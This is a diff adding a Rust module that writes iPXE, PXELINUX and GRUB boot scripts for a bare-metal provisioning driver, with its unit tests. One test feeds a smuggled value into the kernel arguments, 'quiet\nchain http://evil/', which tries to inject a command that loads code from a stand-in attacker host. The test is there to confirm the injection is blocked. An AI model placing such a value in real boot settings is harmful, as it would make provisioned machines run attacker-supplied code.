@@ -1,0 +1,149 @@
+//! The texts that loaders read (deploy.md §B.11).
+
+use crate::DriverError;
+use crate::interface::{NodeView, RamdiskParams, RamdiskPurpose, Result};
+
+use super::PxeSettings;
+
+/// File names of kernel and ramdisk in a node's folder.
+pub(super) fn file_names(purpose: RamdiskPurpose) -> (&'static str, &'static str) {
+    match purpose {
+        RamdiskPurpose::Deploy => ("deploy_kernel", "deploy_ramdisk"),
+        RamdiskPurpose::Rescue => ("rescue_kernel", "rescue_ramdisk"),
+    }
+}
+
+/// The kernel line up to `BOOTIF` and `initrd`, which each loader spells its own way.
+///
+/// # Errors
+/// `Invalid` when a node's `kernel_append_params` would break out of the line.
+pub(super) fn kernel_line(node: &NodeView, params: &RamdiskParams, settings: &PxeSettings) -> Result<String> {
+    let default = settings.kernel_append_params.as_str();
+    let own = node.instance_str("kernel_append_params").or_else(|| node.driver_str("kernel_append_params"));
+    let append = own.map_or_else(|| default.to_owned(), |own| own.replace("%default%", default));
+    let mut words = vec!["selinux=0".to_owned(), "troubleshoot=0".to_owned(), "text".to_owned()];
+    words.extend(append.split_whitespace().map(str::to_owned));
+    words.push(format!("ipa-api-url={}", params.api_url.trim_end_matches('/')));
+    words.extend(params.kernel_args.iter().cloned());
+    let line = words.join(" ");
+    if line.chars().any(char::is_control) {
+        return Err(DriverError::Invalid {
+            section: "driver_info",
+            key: "kernel_append_params".to_owned(),
+            reason: "kernel arguments must be one line without control characters".to_owned(),
+        });
+    }
+    Ok(line)
+}
+
+/// A node's script for iPXE: tries ten times with growing pauses, then switches the machine off.
+pub(super) fn ipxe_config(base: &str, kernel: &str, ramdisk: &str, line: &str) -> String {
+    format!(
+        "#!ipxe\n\
+         set attempt:int32 0\n\
+         :deploy\n\
+         imgfree\n\
+         kernel {base}/{kernel} {line} BOOTIF=${{mac}} initrd={ramdisk} || goto failed\n\
+         initrd {base}/{ramdisk} || goto failed\n\
+         boot || goto failed\n\
+         :failed\n\
+         inc attempt\n\
+         iseq ${{attempt}} 10 && goto give_up ||\n\
+         echo Attempt ${{attempt}} of 10 failed, trying again in ${{attempt}} s\n\
+         sleep ${{attempt}}\n\
+         goto deploy\n\
+         :give_up\n\
+         echo Cannot load {base}/{kernel} and {ramdisk}; switching off\n\
+         sleep 5\n\
+         poweroff\n"
+    )
+}
+
+/// `boot.ipxe`: finds a node's script by the address that iPXE boots from, then by the others.
+pub(super) fn boot_ipxe() -> String {
+    let mut script = "#!ipxe\n\
+        echo Ferric: ${platform} ${mac}\n\
+        chain pxelinux.cfg/${mac:hexhyp} ||\n"
+        .to_owned();
+    for port in 0..8 {
+        script.push_str(&format!(
+            "isset ${{net{port}/mac}} && chain pxelinux.cfg/${{net{port}/mac:hexhyp}} ||\n"
+        ));
+    }
+    script.push_str("echo Ferric: nothing laid out for this machine\nexit 1\n");
+    script
+}
+
+/// A node's configuration for PXELINUX.
+pub(super) fn pxelinux_config(folder: &str, kernel: &str, ramdisk: &str, line: &str) -> String {
+    format!(
+        "default deploy\n\
+         prompt 0\n\
+         label deploy\n\
+         \x20 kernel {folder}/{kernel}\n\
+         \x20 append initrd={folder}/{ramdisk} {line}\n\
+         \x20 ipappend 2\n"
+    )
+}
+
+/// A node's configuration for GRUB.
+pub(super) fn grub_config(folder: &str, kernel: &str, ramdisk: &str, line: &str) -> String {
+    format!(
+        "set timeout=0\n\
+         set default=deploy\n\
+         menuentry deploy {{\n\
+         \x20 linux /{folder}/{kernel} {line} BOOTIF=$net_default_mac\n\
+         \x20 initrd /{folder}/{ramdisk}\n\
+         }}\n"
+    )
+}
+
+/// `grub/grub.cfg`, where Debian's signed GRUB looks first: leads to the node's own.
+pub(super) fn master_grub() -> &'static str {
+    "set timeout=0\n\
+     configfile /${net_default_mac}.conf\n\
+     configfile /${net_default_ip}.conf\n"
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::boot::tests::node;
+    use ferric_machine::BootMode;
+
+    fn params() -> RamdiskParams {
+        RamdiskParams {
+            purpose: RamdiskPurpose::Deploy,
+            boot_mode: BootMode::Bios,
+            api_url: "http://10.0.0.1:6385/".to_owned(),
+            kernel_args: vec!["ipa-debug=1".to_owned()],
+        }
+    }
+
+    #[test]
+    fn kernel_line_is_ironics_with_the_nodes_own_arguments() {
+        let settings = PxeSettings::default();
+        let mut node = node();
+        assert_eq!(
+            kernel_line(&node, &params(), &settings).unwrap(),
+            "selinux=0 troubleshoot=0 text nofb vga=normal ipa-api-url=http://10.0.0.1:6385 ipa-debug=1"
+        );
+        node.driver_info.insert("kernel_append_params".to_owned(), "%default% console=ttyS0".into());
+        let line = kernel_line(&node, &params(), &settings).unwrap();
+        assert!(line.contains("text nofb vga=normal console=ttyS0 ipa-api-url="), "{line}");
+        node.instance_info.insert("kernel_append_params".to_owned(), "quiet".into());
+        let line = kernel_line(&node, &params(), &settings).unwrap();
+        assert!(line.contains("text quiet ipa-api-url="), "{line}");
+    }
+
+    #[test]
+    fn kernel_arguments_cannot_add_lines_to_a_script() {
+        let mut node = node();
+        node.driver_info.insert("kernel_append_params".to_owned(), "quiet\u{1b}[2J".into());
+        let error = kernel_line(&node, &params(), &PxeSettings::default()).unwrap_err();
+        assert!(matches!(error, DriverError::Invalid { .. }), "{error}");
+        node.driver_info.insert("kernel_append_params".to_owned(), "quiet\nchain http://evil/".into());
+        let line = kernel_line(&node, &params(), &PxeSettings::default()).unwrap();
+        assert!(!line.contains('\n'));
+    }
+}
